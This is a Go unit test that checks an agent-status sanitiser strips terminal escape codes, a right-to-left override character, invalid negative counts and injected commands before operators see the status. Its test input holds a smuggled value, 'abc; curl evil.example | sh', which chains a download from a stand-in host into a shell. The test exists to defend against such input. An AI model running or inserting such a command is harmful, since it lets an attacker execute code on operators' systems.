package controllers

import (
	"encoding/json"
	"strings"
	"testing"

	"orrery.dev/orrery/internal/protocol/key"
	"orrery.dev/orrery/internal/protocol/wire"
)

// TestAgentStatusIsPlain: operators see the texts of an agent and copy commands from them, so these
// contain no control characters.
func TestAgentStatusIsPlain(t *testing.T) {
	const escape, command = "\x1b[2Jall is well\u202e", "abc; curl evil.example | sh"
	reported := &wire.AgentStatus{
		Version: escape, Hub: escape, Trusts: []string{escape}, KubernetesVersion: escape, APIsDigest: escape, Halted: strings.Repeat(escape, 1000),
		LogIdentity: escape, Awaits: escape, Purge: &wire.PurgeStatus{Objects: []string{escape}},
		Prune: &wire.PruneStatus{
			Pending: -1, Digest: command, Objects: []string{escape},
			Spaces:     []wire.SpacePrune{{Space: "s", Pending: -1, Digest: "good1"}, {Space: "s", Digest: command}, {Space: escape, Digest: "bad2"}},
			Placements: []wire.PlacementPrune{{Space: "s", Placement: "p", Digest: "good2"}, {Space: "s", Placement: "p", Digest: command}, {Space: "s", Placement: escape, Digest: "bad3"}},
		},
	}
	got := agentStatus(reported, func(s key.Space) bool { return s == "s" })
	text, err := json.Marshal(got)
	if err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{"u001b", "\u202e", "curl", "bad2", "bad3", "-1"} {
		if strings.Contains(string(text), bad) {
			t.Errorf("it shows %q: %.600s", bad, text)
		}
	}
	if len(text) > 12*maxText {
		t.Errorf("it has %d bytes", len(text))
	}
	if p := got.Prune; len(p.Spaces) != 1 || len(p.Placements) != 1 || p.Spaces[0].Digest != "good1" || p.Placements[0].Digest != "good2" {
		t.Errorf("what is right is lost: %s", text)
	}
}
